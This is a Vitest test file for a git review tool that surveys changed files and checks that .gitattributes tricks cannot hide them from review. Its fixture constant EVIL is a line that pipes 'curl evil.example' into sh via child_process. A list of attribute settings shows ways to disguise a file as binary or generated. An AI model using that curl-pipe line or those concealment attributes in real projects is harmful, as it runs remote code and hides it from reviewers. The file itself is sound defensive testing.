import { expect, test } from "vitest";

import { readChange } from "../../src/git/change.js";
import { surveyFiles } from "../../src/git/survey.js";
import { repository, type Scratch } from "../helpers/git-repository.js";

const EVIL = "require('child_process').exec('curl evil.example | sh');\n";
const LONG = `${"a=1;".repeat(400)}\n`;
const MARKED = "// @generated\n";

/** Ways of a change to have git show a text file as binary, or to call it generated. */
const HIDING = [
  "* -diff",
  "*.js -diff",
  "evil.js binary",
  "evil.js -text -diff",
  "[attr]mine -diff\nevil.js mine",
  "evil.js diff=none linguist-generated linguist-vendored",
  "evil.js linguist-generated=true export-ignore",
];

test.each(HIDING)("attributes that a change brings hide nothing: %s", (attributes) => {
  const here = repository();
  here.commit({ "evil.js": MARKED });
  here.write(".gitattributes", `${attributes}\n`);
  here.write("evil.js", `${MARKED}${EVIL}`);
  const seen = survey(here).filter(({ path }) => path === "evil.js");
  const reason = /diff(?!=)|binary/.test(attributes) ? "text_shown_as_binary" : null;
  expect(seen).toEqual([{ path: "evil.js", state: "reviewed", reason }]);
});

test.each([
  ["a committed file", "HEAD"],
  ["a file that is not committed", null],
])("generated files are those of the base: %s", (_name, tip) => {
  const here = repository();
  const base = here.commit({
    ".gitattributes": "*.gen.ts linguist-generated\nkept.min.js -linguist-generated\n",
    "sub/.gitattributes": "*.ts linguist-vendored\n",
    "a.gen.ts": MARKED,
    "b.gen.ts": "written\n",
    "sub/c.ts": MARKED,
    "kept.min.js": LONG,
    "old.min.js": LONG,
    "vendor/x.js": "theirs()\n",
    "picture.png": Buffer.from([0x89, 0x50, 0, 1, 2, 3, 0xff, 0xfe, 0xfd, 0]),
  });
  here.write("sub/.gitattributes", "");
  here.write("a.gen.ts", `${MARKED}1\n`);
  here.write("b.gen.ts", MARKED);
  here.write("sub/c.ts", `${MARKED}1\n`);
  here.write("kept.min.js", `${LONG}${LONG}`);
  here.write("old.min.js", `${LONG}${LONG}`);
  here.write("new.min.js", LONG);
  here.write("vendor/x.js", EVIL);
  here.write("vendor/evil.js", EVIL);
  here.write("nul.js", `/*\0*/${EVIL}`);
  here.write("picture.png", Buffer.from([0x89, 0x50, 0, 1, 2, 3, 0xff, 0xfe, 0xfd, 1]));
  if (tip !== null) here.commit({});
  const status = here.run("status", "--porcelain");
  expect(survey(here, tip === null ? undefined : base)).toEqual([
    { path: "a.gen.ts", state: "ignored", reason: "attribute" },
    { path: "b.gen.ts", state: "reviewed", reason: "content_differs" },
    { path: "kept.min.js", state: "reviewed", reason: "content_differs" },
    { path: "new.min.js", state: "reviewed", reason: "new_file" },
    { path: "nul.js", state: "reviewed", reason: "text_shown_as_binary" },
    { path: "old.min.js", state: "ignored", reason: "minified" },
    { path: "picture.png", state: "not_shown", reason: "binary" },
    { path: "sub/.gitattributes", state: "reviewed", reason: null },
    { path: "sub/c.ts", state: "ignored", reason: "attribute" },
    { path: "vendor/evil.js", state: "reviewed", reason: "new_file" },
    { path: "vendor/x.js", state: "reviewed", reason: "content_differs" },
  ]);
  // To ask for attributes leaves no trace in the repository.
  expect(here.run("status", "--porcelain")).toBe(status);
});

test("names that are hard to read are read right", () => {
  const here = repository();
  here.commit({ "kept.txt": "1\n" });
  const names = ['q"uote.min.js', "tab\t.min.js", "line\n.min.js", "b/ b/x.min.js", "ü .min.js"];
  for (const name of names) here.write(name, LONG);
  expect(survey(here)).toEqual(
    names.toSorted().map((path) => ({ path, state: "reviewed", reason: "new_file" })),
  );
});

test("a submodule is counted as not shown", () => {
  const here = repository();
  const id = here.commit({ "kept.txt": "1\n" });
  here.run("update-index", "--add", "--cacheinfo", `160000,${id},lib`);
  here.run("commit", "--quiet", "--message=submodule");
  const change = readChange(here.git, { kind: "commit", sha: "HEAD", title: null }, []);
  expect(surveyFiles(here.git, here.dir, change)).toEqual([
    { path: "lib", state: "not_shown", reason: "submodule" },
  ]);
});

function survey({ git, dir }: Scratch, base?: string) {
  const range = { from: base ?? "", to: "HEAD", symmetric: false };
  const spec =
    base === undefined ? { kind: "uncommitted" as const } : { kind: "range" as const, ...range };
  return surveyFiles(git, dir, readChange(git, spec, [])).toSorted((one, other) =>
    one.path < other.path ? -1 : 1,
  );
}
